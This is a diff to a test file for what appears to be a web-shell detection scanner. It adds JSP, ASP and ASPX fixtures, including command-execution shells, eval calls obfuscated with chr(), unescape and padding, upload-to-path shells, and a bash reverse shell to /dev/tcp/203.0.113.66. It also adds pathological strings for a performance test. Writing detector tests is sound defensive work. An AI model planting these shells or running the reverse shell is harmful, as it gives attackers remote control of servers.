@@ -34,6 +34,41 @@ describe('lexical rules', () => {
       'a filter of its own',
       '<% Field f = x.getClass().getDeclaredField("context"); f.setAccessible(true); standardContext.addFilterDef(new FilterDef()); %>',
     ],
+    ['jsp', 'a command in small letters', '<% Runtime.getruntime().exec(request.getParameter("c")) %>'],
+    ['jsp', 'a shell back', '<% Runtime.getRuntime().exec("bash -i >& /dev/tcp/203.0.113.66/9 0>&1"); %>'],
+    ['jsp', 'a class as text', `<% String c = "yv66vgAAADIA${'4QgARgcAnAgA'.repeat(10)}"; %>`],
+    [
+      'jsp',
+      'a log that is a page',
+      '<% new java.util.logging.FileHandler(application.getRealPath("/") + request.getParameter("f"), true); %>',
+    ],
+    ['jsp', 'a picture that is a page', 'GIF89a<% out.print(1); %>'],
+    [
+      'aspx',
+      'an upload to a path of the request',
+      '<% Request.Files[0].SaveAs(Server.MapPath(Request["f"])); %>',
+    ],
+    [
+      'aspx',
+      'a file that a field names',
+      '<% var w = new StreamWriter(this.path.Text); w.Write(this.body.Text); %>',
+    ],
+    [
+      'asp',
+      'a call of characters',
+      `<%eval(eval(${[...'request'].map((c) => `chr(${c.charCodeAt(0)})`).join('+')})("a"))%>`,
+    ],
+    ['asp', 'an escaped call', '<%execute(unescape("eval%20request%28%22a%22%29"))%>'],
+    [
+      'asp',
+      'an interpreter of its own',
+      '<% Set o = Server.CreateObject("ScriptControl"): o.addcode(Request("c")) %>',
+    ],
+    [
+      'asp',
+      'a text with letters too many',
+      '<% x="e0x0e0c0ut0e(req0ue0st(1))": x=replace(x,"0",""): eval x %>',
+    ],
     ['aspx', 'eval in JScript', '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'],
     [
       'aspx',
@@ -52,7 +87,11 @@ describe('lexical rules', () => {
       'a decoder',
       '<% Function d(s)\nd = StrReverse(s)\nEnd Function\nExecute d(")x(tseuqer lave") %>',
     ],
-    ['asp', 'an encoded page', '<%@ LANGUAGE = VBScript.Encode %><%#@~^BgAAAA==vL[DMQIAAA==^#~@%>'],
+    [
+      'asp',
+      'a long encoded page',
+      `<%@ LANGUAGE = VBScript.Encode %><%#@~^BgAAAA==${'vL[DMQIA'.repeat(900)}==^#~@%>`,
+    ],
     [
       'asp',
       'a shell object',
@@ -103,6 +142,28 @@ describe('lexical rules', () => {
       '<cfquery name="q">select * from t where id = <cfqueryparam value="#url.id#"></cfquery>',
     ],
     ['htaccess', 'rewriting', 'RewriteEngine On\nRewriteRule . /index.php [L]\nAddType image/webp .webp'],
+    ['asp', 'a query', '<% Set rs = conn.execute("select * from news where id=" & cint(request("id"))) %>'],
+    [
+      'asp',
+      'what a remote picture becomes',
+      '<% Set h = CreateObject("Microsoft.XMLHTTP"): s.SaveToFile Server.MapPath("/up/" & n), 2 %>',
+    ],
+    ['asp', 'a question what the host has', '<% ok = IsObjInstalled("WScript.Shell"): n = Request("n") %>'],
+    [
+      'asp',
+      'a short encoded page',
+      '<%@ LANGUAGE = VBScript.Encode %><%#@~^QAAAAA==@#@&/nk/bWxvJz[:bxHls+Eb{JJ@#@&RxIAAA==^#~@%>',
+    ],
+    [
+      'asp',
+      'a word that a filter looks for',
+      '<% bad = "exec|insert|xp_cmdshell": if instr(bad, Request("q")) then Response.End %>',
+    ],
+    [
+      'aspx',
+      'a picture in a page',
+      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><% Response.Write(1) %>',
+    ],
   ])('%s: leave %s alone', (language, _, source) => {
     expect(lexicalSignals(language, source)).toEqual([]);
   });
@@ -118,6 +179,13 @@ describe('lexical rules', () => {
       'open(STDIN ',
       'new FileOutputStream(',
       '"\\u0041',
+      '#@~^AAAAAA==',
+      'chr(65)&',
+      'unescape("%41',
+      'execute(',
+      'SaveToFile ',
+      'GIF89a',
+      'yv66vg',
     ]) {
       const source = piece.repeat(200_000 / piece.length);
       const began = process.cpuUsage();
